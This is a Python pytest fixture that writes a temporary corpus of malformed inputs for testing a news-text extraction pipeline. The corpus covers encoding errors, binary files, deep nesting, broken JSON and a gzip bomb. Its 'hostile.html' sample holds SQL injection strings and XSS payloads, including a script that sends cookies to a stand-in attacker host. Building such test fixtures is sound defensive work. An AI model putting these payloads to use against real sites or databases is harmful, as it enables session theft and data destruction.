"""Reliability fixtures: a bad-input corpus generated on the fly in a temporary folder."""

from __future__ import annotations

import gzip
import json
import shutil
from pathlib import Path

import pytest

GOOD_ARTICLE = (
    "Leaders meet in Geneva\n\n"
    "US President Joe Biden met Russian President Vladimir Putin in Geneva on Wednesday for their "
    "first summit. The two leaders agreed to return their ambassadors to each other's capitals and "
    "to start talks on strategic stability, officials said after the meeting.\n"
)
HOSTILE_TITLE = "Robert'); DROP TABLE articles; -- <script>alert('title')</script>"
HOSTILE_BODY = (
    "<p>Protesters gathered outside the embassy in Nairobi on Monday, police said. "
    "<script>document.location='http://attacker.invalid/?c='+document.cookie</script>"
    "The organisers said the rally was peaceful; '; DROP TABLE events; -- and "
    "<img src=x onerror=alert(1)> were found in a leaflet quoted by Kenyan police.</p>"
)
NON_ENGLISH = (
    "Titel\n\nDie Bundesregierung hat am Dienstag neue Sanktionen gegen Russland beschlossen. "
    "Die Massnahmen betreffen vor allem den Energiesektor und mehrere Banken, sagte ein Sprecher "
    "des Auswärtigen Amtes in Berlin.\n"
)
MOJIBAKE_DOCS = 5
BOMB_BYTES = 200_000_000


def _nested_page(depth: int) -> str:
    opening = "<div>" * depth
    closing = "</div>" * depth
    sentence = ("Chinese President Xi Jinping hosted French President Emmanuel Macron in "
                "Guangzhou for a first summit in April, and both leaders signed trade deals.")
    return (f"<html><head><title>Nested</title></head><body>{opening}<article><p>"
            f"{sentence}</p></article>{closing}</body></html>")


def _mojibake_texts(shared_dir: Path) -> list[str]:
    path = shared_dir / "news/corpora/india_police_events/docs.jsonl.gz"
    with gzip.open(path, "rt", encoding="utf-8") as lines:
        texts = [json.loads(line)["doc_text"] for _, line in zip(range(200), lines, strict=False)]
    return [text for text in texts if "â€" in text][:MOJIBAKE_DOCS]


@pytest.fixture(scope="module")
def bad_corpus(tmp_path_factory: pytest.TempPathFactory, shared_dir: Path) -> Path:
    """A folder of every kind of bad input the reliability issue names, plus two good articles."""
    root = tmp_path_factory.mktemp("bad_inputs")
    (root / "good.txt").write_text(GOOD_ARTICLE, encoding="utf-8")
    (root / "empty.html").write_bytes(b"")
    (root / "whitespace.txt").write_text(" \n\t\n", encoding="utf-8")
    (root / "image.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8)
    (root / "report.pdf").write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 8)
    (root / "random.txt").write_bytes(bytes((i * 7919) % 256 for i in range(4096)))
    with (root / "huge.html").open("wb") as huge:
        huge.write(b"<html><body><p>")
        huge.write(b"word " * 10_000_000)
        huge.write(b"</p></body></html>")
    (root / "nested.html").write_text(_nested_page(5_000), encoding="utf-8")
    (root / "latin1-declared-utf8.html").write_bytes(
        b'<html><head><meta charset="utf-8"><title>Caf\xe9</title></head><body><article><p>'
        + GOOD_ARTICLE.splitlines()[2].encode("cp1252")
        + b" The caf\xe9 in Z\xfcrich was closed.</p></article></body></html>")
    (root / "mixed-encoding.txt").write_bytes(
        GOOD_ARTICLE.encode("utf-8") + "Ministers in Zürich said “yes”.".encode()
        + " Der Minister in Zürich sagte ja.".encode("cp1252") + b"\n")
    (root / "no-article.html").write_text(
        "<html><body><nav><a href='/'>Home</a> <a href='/world'>World</a></nav>"
        "<footer>Copyright 2024</footer></body></html>", encoding="utf-8")
    (root / "german.txt").write_text(NON_ENGLISH, encoding="utf-8")
    (root / "hostile.html").write_text(
        f"<html><head><title>{HOSTILE_TITLE}</title></head><body><article><h1>{HOSTILE_TITLE}</h1>"
        f"{HOSTILE_BODY}</article></body></html>", encoding="utf-8")
    (root / "bomb.html.gz").write_bytes(gzip.compress(b"\0" * BOMB_BYTES, compresslevel=1))
    (root / "broken.jsonl").write_text(
        '{"text": "' + GOOD_ARTICLE.splitlines()[2].replace("Geneva", "Vienna") + '"}\n'
        "{broken json\n[1, 2]\n" + '{"text": 42}\n', encoding="utf-8")
    mojibake = root / "mojibake"
    mojibake.mkdir()
    for number, text in enumerate(_mojibake_texts(shared_dir)):
        (mojibake / f"toi-{number}.txt").write_text(text, encoding="utf-8")
    feeds = root / "feeds"
    feeds.mkdir()
    for feed in sorted((shared_dir / "news/feeds/feedparser-py/illformed").glob("*.xml")):
        shutil.copy(feed, feeds / feed.name)
    return root
